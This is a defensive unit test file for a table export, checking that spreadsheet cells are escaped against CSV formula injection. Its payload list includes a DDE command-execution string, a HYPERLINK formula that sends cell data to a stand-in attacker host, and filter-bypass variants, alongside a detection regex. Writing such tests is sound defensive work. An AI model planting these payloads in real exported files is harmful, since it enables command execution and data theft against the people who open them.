import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cellText, escapedCell } from '../../../../../src/domain/table';

/** OWASP's page on CSV injection, and what its filter bypasses do: other line ends, full-width signs, signs that are not seen. */
const formulas = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=1+1\nsecond line',
  '=1+1\r\nsecond line',
  '+1-1',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\n\n=1+1',
  'Ada\n=1+1',
  'Ada\r\n=1+1',
  'Ada\r=1+1',
  'Ada\u2028=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u000b=1+1',
];

const lineStart = /(?:^|[\n\r\u2028\u2029])([\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠])/u;

describe('cells of an export (FAULTS A31)', () => {
  it('are never formulas', () => {
    expect(formulas.filter((cell) => lineStart.test(escapedCell(cell)))).toEqual([]);
  });

  it.each([
    ['Ada'],
    ["O'Brien"],
    ['a = b'],
    ['a-b'],
    ['ada@example.com'],
    [''],
    ['two\nlines'],
    [-5],
    [null],
  ])('%j stays as it is', (cell) => expect(escapedCell(cell)).toBe(cell));

  it('are read again as they were', () => {
    expect(formulas.filter((cell) => cellText(escapedCell(cell)) !== cell.trim())).toEqual([]);
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', 'a', '\n', '\t', ' ', '＠', '-') }), (cell) => {
        const escaped = escapedCell(cell);
        expect(escaped).not.toMatch(lineStart);
        expect(cellText(escaped)).toBe(cell.trim());
      }),
    );
  });
});
